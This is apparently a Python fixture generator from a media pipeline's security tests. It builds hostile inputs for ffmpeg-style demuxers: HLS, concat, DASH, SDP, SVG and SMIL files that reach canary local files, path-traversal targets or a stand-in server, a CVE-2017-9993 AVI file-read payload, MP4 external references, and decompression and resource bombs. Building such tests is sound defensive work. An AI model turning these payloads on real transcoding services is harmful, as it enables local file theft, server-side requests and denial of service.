#!/usr/bin/python3
"""Files that mean harm, or are broken in a way of their own (THREATS 1 to 6).

Those that point elsewhere point at the canaries: a server that nobody may
call, and files that lie ready to be found.
"""

import functools
import struct

import boxes
import films
from media_files import (
    ffmpeg, hidden_size, make_clip, other_video, remuxed, silent)

MIB = 1 << 20

# What stands for the canaries' addresses, of their lengths, until they are
# known: a text stays as long as it was.
SERVER = b"127.0.0.1:99999"
FILM = b"/canary-film-of-the-tests.mp4".rjust(64, b"/")
WORDS = b"/canary-words-of-the-tests.txt".rjust(64, b"/")


# ---- texts that some demuxer reads as a film (THREATS 1) ----

def playlist(*lines):
    return b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n" + b"".join(
        b"#EXTINF:9,\n" + line + b"\n" for line in lines) + \
        b"#EXT-X-ENDLIST\n"


def concat(*lines):
    return b"ffconcat version 1.0\n" + b"".join(
        b"file " + line + b"\n" for line in lines)


def dash(base):
    return (
        b'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" '
        b'type="static" mediaPresentationDuration="PT9S"><Period>'
        b'<AdaptationSet mimeType="video/mp4"><Representation id="1" '
        b'bandwidth="1" codecs="avc1"><BaseURL>' + base + b'</BaseURL>'
        b'<SegmentBase/></Representation></AdaptationSet></Period></MPD>')


TEXTS = {
    "m3u8_film": playlist(b"file://" + FILM),
    "m3u8_words": playlist(b"file://" + WORDS),
    "m3u8_relative": playlist(b"in.mp4", b"../../../data/secret"),
    "m3u8_http": playlist(b"http://" + SERVER + b"/a.ts"),
    "m3u8_of_both": playlist(
        b"concat:http://" + SERVER + b"/a?|file://" + WORDS),
    "m3u8_key": b'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="http://' + SERVER +
                b'/k"\n#EXTINF:9,\nfile://' + FILM + b"\n",
    "concat_film": concat(FILM),
    "concat_words": concat(WORDS),
    "concat_relative": concat(b"in.mp4", b"../../../data/secret"),
    "concat_http": concat(b"http://" + SERVER + b"/a.mp4"),
    "concat_with_option": concat(FILM) + b"option safe 0\n",
    "sdp": b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\n"
           b"c=IN IP4 127.0.0.1\r\nt=0 0\r\n"
           b"m=video 9 TCP/RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
           b"a=control:rtsp://" + SERVER + b"/\r\n",
    "dash_http": dash(b"http://" + SERVER + b"/a.mp4"),
    "dash_film": dash(b"file://" + FILM),
    "smil": b'<smil><body><video src="http://' + SERVER + b'/"/></body>'
            b"</smil>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://' +
           SERVER + b'/x.png"/></svg>',
    "subtitles": b"1\n00:00:00,000 --> 00:00:09,000\nTELLTALE\n",
    "graph": b"movie=" + FILM,
    "settings": b";FFMETADATA1\ntitle=TELLTALE\n",
}


def chunk(name, data):
    """A chunk of RIFF."""
    return name + struct.pack("<I", len(data)) + data + bytes(len(data) % 2)


def avi_with_playlist():
    """A playlist for subtitles, as GAB2: CVE-2017-9993 in its first form."""
    film = other_video("mpeg4", suffix=".avi")
    at = film.index(b"strl") - 8
    stream = chunk(b"LIST", b"strl" + chunk(
        b"strh", b"txts" + struct.pack("<11I4H", 0, 0, 0, 0, 1, 25, 0, 9, 999,
                                       0, 0, 0, 0, 0, 0)) +
        chunk(b"strf", b""))
    size = struct.unpack("<I", film[at + 4:at + 8])[0]
    end = at + 8 + size
    head = film.index(b"hdrl") - 4
    words = TEXTS["m3u8_words"]
    packet = chunk(b"01tx", b"GAB2\0" + struct.pack("<HIHH", 2, 0, 4, 0) +
                   struct.pack("<I", len(words)) + words)
    film = film[:head] + struct.pack("<I", struct.unpack(
        "<I", film[head:head + 4])[0] + len(stream)) + \
        film[head + 4:end] + stream + film[end:]
    movie = film.index(b"movi")
    film = film[:movie - 4] + struct.pack("<I", struct.unpack(
        "<I", film[movie - 4:movie])[0] + len(packet)) + b"movi" + packet + \
        film[movie + 4:]
    return film[:4] + struct.pack("<I", len(film) - 8) + film[8:]


def refer(reference):
    """A film whose samples lie where a data reference says."""
    tree = boxes.parse(silent(seconds=0.2))
    boxes.find(tree, "moov", "trak", "mdia", "minf", "dinf").body = \
        boxes.build([boxes.Box("dref", bytes(4) + struct.pack(">I", 1) +
                               boxes.build([reference]))])
    return boxes.build(tree)


def elsewhere_by_url():
    return refer(boxes.Box("url ", bytes(4) + b"file://" + FILM + b"\0"))


def elsewhere_by_alias():
    """An alias record of the Macintosh; of it ffmpeg reads the full path."""
    name = bytes([5]) + b"x.mp4".ljust(63, b"\0")
    levels = struct.pack(">2h", 1, 1)
    path = struct.pack(">2H", 2, len(FILM)) + FILM
    return refer(boxes.Box("alis", bytes(4) + bytes(10) + bytes(28) +
                           bytes(12) + name + bytes(16) + levels + bytes(16) +
                           path + b"\xff\xff\0\0"))


# ---- bombs (THREATS 3) ----

def jpeg_bomb():
    """Motion JPEG whose frame header claims 16000 x 16000."""
    film = bytearray(other_video("mjpeg", "-frames:v", "1", suffix=".avi",
                                 pixels="yuvj420p"))
    at = film.index(b"\xff\xc0") + 5
    film[at:at + 4] = struct.pack(">2H", 16000, 16000)
    return bytes(film)


def vp8_bomb():
    """A keyframe (RFC 6386, 9.1) that claims the most: 16383 x 16383."""
    film = bytearray(other_video("libvpx", "-frames:v", "1", suffix=".webm"))
    at = film.index(b"\x9d\x01\x2a") + 3
    film[at:at + 4] = struct.pack("<2H", 16383, 16383)
    return bytes(film)


def matroska_bomb():
    """H.264 of 16000 x 16000 in a track that claims 320 x 240."""
    return remuxed(suffix=".mkv", clip=hidden_size(16000, 16000))


def drawn_bomb():
    """One black picture of the most that MPEG-4 Visual can say."""
    return silent(width=8176, height=8176, seconds=0.04, draw="color=c=black",
                  video=("-c:v", "mpeg4"), suffix=".avi")


def ten_hours(suffix):
    """36,000 s in eleven pictures, an hour apart."""
    return silent(width=16, height=16, seconds=36000, rate="1/3600",
                  suffix=suffix)


def hundred_streams():
    clip = silent(width=16, height=16, seconds=0.04)
    return ffmpeg(*["-map", "0:v"] * 100, "-c", "copy", suffix=".mkv",
                  files=(clip,))


def huge_index():
    """An index of 100 MB: the sizes of 25 million samples."""
    tree = boxes.parse(silent(seconds=0.2))
    sizes = boxes.find(tree, "moov", "trak", "mdia", "minf", "stbl", "stsz")
    sizes.body = bytes(8) + struct.pack(">I", 25 * MIB) + bytes(100 * MIB)
    return boxes.build(tree)


def huge_note():
    """An index of 100 MB, nearly all of which is a note."""
    tree = boxes.parse(silent(seconds=0.2))
    boxes.find(tree, "moov").body.append(
        boxes.Box("free", bytes(100 * MIB)))
    return boxes.build(tree)


# ---- other ways to be broken ----

@functools.lru_cache(None)
def webm():
    return other_video("libvpx", suffix=".webm")


def cut_webm(tenths):
    film = webm()
    return film[:len(film) * tenths // 10]


def half(codec, sound, suffix, *options):
    """The first half of a film with keyframes in all its parts."""
    film = films.film(codec, sound, suffix, *options, "-g", "5", seconds=2)
    return film[:len(film) // 2]


def noise_in(film, seed=7):
    """Every 97th byte behind the head is another."""
    data = bytearray(film)
    for at in range(len(data) // 3, len(data), 97):
        data[at] ^= seed + at % 249
    return bytes(data)


def deep():
    """Boxes in boxes, a thousand deep."""
    data = b""
    for _ in range(1000):
        data = boxes.build([boxes.Box("trak", data)])
    return boxes.build([boxes.Box("ftyp", b"isom\0\0\2\0"),
                        boxes.Box("moov", data)])


def zip_behind():
    """A film that is an archive, too."""
    return make_clip(seconds=0.2) + \
        b"PK\5\6" + bytes(16) + struct.pack("<H", 8) + b"TELLTALE"


def script_first():
    """A page, then a film."""
    return b"<script>alert('TELLTALE')</script>" + make_clip(seconds=0.2)
